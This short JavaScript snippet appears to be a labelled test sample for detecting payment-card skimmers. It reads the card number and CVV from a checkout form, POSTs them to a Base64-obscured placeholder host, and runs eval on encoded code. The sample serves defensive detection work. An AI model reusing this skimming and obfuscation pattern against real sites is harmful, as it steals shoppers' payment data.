// technique 3: Base64-revealed stage-2 URL, data sent by WebSocket and POST
// expect: payment-data-exfiltration, hidden-code-execution
var cfg = atob('aHR0cHM6Ly9hcGkuc3RhdC1jb2xsZWN0LmV4YW1wbGUvcg==');
var card = { n: document.querySelector('input[name="payment[cc_number]"]').value,
             c: document.querySelector('input[name="payment[cc_cid]"]').value };
fetch(cfg, { method: 'POST', body: JSON.stringify(card) });
eval(atob('dmFyIHg9bmV3IEltYWdlKCk7'));
